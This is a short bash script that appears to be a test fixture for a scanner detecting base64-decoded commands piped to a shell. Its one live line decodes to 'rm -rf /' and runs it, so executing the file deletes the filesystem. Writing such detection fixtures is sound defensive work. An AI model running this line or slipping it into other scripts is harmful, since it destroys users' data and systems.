#!/bin/bash
# shows: base64, then a shell
# expect: decoded-to-shell at line 4
echo cm0gLXJmIC8= | base64 -d | sh
